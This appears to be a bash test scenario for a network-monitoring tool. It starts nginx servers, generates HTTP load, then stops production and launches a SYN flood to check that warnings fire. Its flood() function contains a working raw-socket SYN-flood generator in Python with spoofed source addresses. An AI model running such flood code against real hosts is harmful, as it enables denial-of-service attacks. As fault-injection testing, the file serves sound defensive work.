# shellcheck shell=bash disable=SC2034
about='production ends after 20 s of load, and is flooded with SYNs: a warning names it, the end is told'
wire=any
ours=yes
fault=yes

# shellcheck source=scripts/lib/findings.sh
source "$ROOT/scripts/lib/findings.sh"

run() {
  nginx_start online
  nginx_start test
  copying
  counting count_http
  load_start client anew bash -c "for _ in {1..400}; do curl -s -m 2 -o /dev/null 'http://$ONLINE4/' || true; sleep 0.1; done"
  sleep 20
  fault nobody-listens end_production start_production
  fault syn-flood flood no_flood
  no_other_findings
  end "${LOAD[anew]}" TERM || true
  copy_stop
  N_ONLINE=$(arrived online) N_TEST=$(arrived test)
}

end_production() { nginx_stop online; }
start_production() { nginx_start online; }

# From addresses that nobody has, so that nobody answers the SYN-ACKs.
flood() {
  load_start client flood python3 -c "
import random, socket, struct, sys, time
target = socket.inet_aton('$ONLINE4')
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
def total(data):
    s = sum(struct.unpack('!%dH' % (len(data) // 2), data))
    s = (s >> 16) + (s & 0xffff)
    return ~(s + (s >> 16)) & 0xffff
while True:
    source = bytes([10, 20, 1, random.randrange(1, 250)])
    ports = struct.pack('!HH', random.randrange(1024, 65000), 80)
    tcp = ports + struct.pack('!IIBBHHH', random.getrandbits(32), 0, 0x50, 2, 1024, 0, 0)
    check = total(source + target + struct.pack('!BBH', 0, 6, len(tcp)) + tcp)
    tcp = tcp[:16] + struct.pack('!H', check) + tcp[18:]
    head = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 40, 0, 0, 64, 6, 0, source, target)
    raw.sendto(head + tcp, ('$ONLINE4', 0))
    time.sleep(0.002)
"
}
no_flood() { end "${LOAD[flood]}" TERM || true; }
